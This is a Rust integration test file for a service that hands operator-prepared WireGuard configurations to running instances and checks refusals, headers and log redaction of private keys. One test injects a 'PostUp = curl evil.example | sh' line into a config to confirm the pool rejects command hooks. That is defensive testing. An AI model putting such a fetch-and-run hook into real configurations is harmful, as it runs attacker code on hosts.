//! Prepared WireGuard configurations: filled in by an operator, fetched by an instance, freed by its end.
#![allow(clippy::indexing_slicing, clippy::unwrap_used, clippy::panic, reason = "tests")]

mod support;

use std::time::Duration;

use handfast::wireguard::{Config, Interface, Peer, PrivateKey};
use reqwest::Method;
use serde_json::{Value, json};
use support::{ELSEWHERE, HERE, Host, Place, authority};

const POOL: &str = "/api/scopes/demo/pools/wireguard-eu";
const TOKEN: &str = r#"{ type = "kubernetes_bootstrap_token", ttl_seconds = 900 }"#;
const ITEM: &str = r#"{ type = "pool_item", pool = "wireguard-eu" }"#;

fn prepared() -> String {
    let mut rng = rand::rng();
    let interface = Interface {
        addresses: vec!["10.9.0.2/32".parse().unwrap()],
        ..Interface::new(PrivateKey::generate(&mut rng))
    };
    let peer = Peer {
        allowed_ips: vec!["10.9.0.0/24".parse().unwrap()],
        endpoint: Some("hub.example:51820".parse().unwrap()),
        ..Peer::new(PrivateKey::generate(&mut rng).public_key())
    };
    // What an operator's own tool may write; it is handed out to the letter.
    format!("# hub 1\n{}", Config::new(interface, vec![peer]).unwrap().to_secret().expose())
}

/// A place whose instances are given these contents.
fn place(contents: &str) -> Place {
    let place = Place::new();
    place.edit("provisioner.toml", TOKEN, contents);
    place
}

async fn fill(host: &Host, config: &str) {
    let add = json!({ "add": { "peer-1": config } });
    host.ask(host.token.as_ref().unwrap(), Method::PATCH, POOL, add).await;
}

/// Asks until the answer has this status.
async fn ask(host: &Host, instance: &str, status: u16) -> support::Reply {
    let mut last = None;
    for _ in 0..500 {
        let reply = host.post(&format!("/wireguard/config/{instance}"), "").await;
        if reply.status == status {
            return reply;
        }
        last = Some(reply);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("{last:?}")
}

#[tokio::test]
async fn an_instance_is_given_a_prepared_configuration_and_frees_it() {
    let place = place(ITEM);
    let host = place.start();
    let (operator, config) = (host.token.clone().unwrap(), prepared());
    fill(&host, &config).await;
    assert_eq!(host.post(&format!("/wireguard/config/{HERE}"), "").await.status, 404, "it does not run");

    host.event(authority::state_change(HERE, "running")).await;
    let reply = ask(&host, HERE, 200).await;
    assert_eq!(reply.body, config);
    assert_eq!(reply.header("content-type"), Some("text/plain; charset=utf-8"));
    assert_eq!(reply.header("cache-control"), Some("no-store"));
    assert_eq!(ask(&host, HERE, 200).await.body, config, "a lost reply");
    let pool = host.ask(&operator, Method::GET, POOL, Value::Null).await;
    assert!(pool["free"] == 0 && pool["items"][0]["package"].is_string(), "{pool}");

    host.event(authority::state_change(ELSEWHERE, "running")).await;
    let stranger = host.post(&format!("/wireguard/config/{ELSEWHERE}"), "").await;
    let nobody = host.post("/wireguard/config/i-0123456789abcdef0", "").await;
    assert_eq!((stranger.refusal(), &stranger.body), ((404, "not_found".into()), &nobody.body));

    host.event(authority::state_change(HERE, "terminated")).await;
    assert_eq!(ask(&host, HERE, 404).await.refusal(), (404, "not_found".into()));
    let secret = config.lines().find_map(|line| line.strip_prefix("PrivateKey = ")).unwrap();
    assert!(!place.log().contains(secret) && place.log().contains("handed out a WireGuard configuration"));
}

#[tokio::test]
async fn one_package_gives_both_its_kubeconfig_and_its_configuration() {
    let place = place(&format!("{TOKEN}, {ITEM}"));
    let host = place.start();
    let config = prepared();
    fill(&host, &config).await;
    host.event(authority::state_change(HERE, "running")).await;
    let kubeconfig = host.joined(HERE).await;
    assert_eq!(ask(&host, HERE, 200).await.body, config);
    assert_eq!(host.joined(HERE).await, kubeconfig);
}

#[tokio::test]
async fn a_package_without_a_configuration_has_none() {
    let place = Place::new();
    let host = place.start();
    host.event(authority::state_change(HERE, "running")).await;
    host.joined(HERE).await;
    assert_eq!(host.post(&format!("/wireguard/config/{HERE}"), "").await.status, 404);
    assert!(place.log().contains("holds no WireGuard configuration"));
}

#[tokio::test]
async fn nothing_is_taken_into_such_a_pool_that_could_run_a_command() {
    let place = place(ITEM);
    let host = place.start();
    let operator = host.token.clone().unwrap();
    let change = |pool: &'static str, content: Value| {
        let (host, operator, body) = (&host, &operator, json!({ "add": { "peer-1": content } }).to_string());
        async move { host.api(operator, Method::PATCH, &format!("/api/scopes/demo/pools/{pool}"), &body).await }
    };
    let config = prepared();
    let evil = config.replace("Address", "PostUp = curl evil.example | sh\nAddress");
    let secret = config.lines().find_map(|line| line.strip_prefix("PrivateKey = ")).unwrap();
    for (content, code) in [
        (json!(evil), "wireguard_command"),
        (json!(config.replace("hub.example", "hub example")), "wireguard_malformed_config"),
        (json!(config.replace("10.9.0.2/32", "10.9.0.2/33")), "wireguard_malformed_config"),
        (Value::Null, "invalid_input"),
    ] {
        for pool in ["wireguard", "wireguard-eu"] {
            let reply = change(pool, content.clone()).await;
            assert_eq!(reply.refusal(), (400, code.into()), "{pool}");
            assert!(reply.body.contains("add.peer-1: ") && !reply.body.contains(secret), "{}", reply.body);
        }
    }
    assert_eq!(change("licences", json!("anything")).await.status, 200, "other pools hold what they like");
    assert_eq!(change("wireguard", json!(config)).await.status, 200);
}

#[tokio::test]
async fn an_instance_id_alone_is_enough_only_where_that_was_chosen_loudly() {
    let place = place(ITEM);
    let host = place.start();
    let config = prepared();
    fill(&host, &config).await;
    host.event(authority::state_change(ELSEWHERE, "running")).await;
    let path = format!("/wireguard/config/{ELSEWHERE}");
    assert_eq!(host.send(Method::GET, &path, &[], "").await.unwrap().status, 405);
    let operator = host.token.clone().unwrap();
    while host.ask(&operator, Method::GET, POOL, Value::Null).await["free"] != 0 {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    drop(host);
    let place = place.with(&["--insecure-instance-id-alone"]);
    let host = place.start();
    assert_eq!(host.send(Method::GET, &path, &[], "").await.unwrap().body, config, "{}", place.log());
}
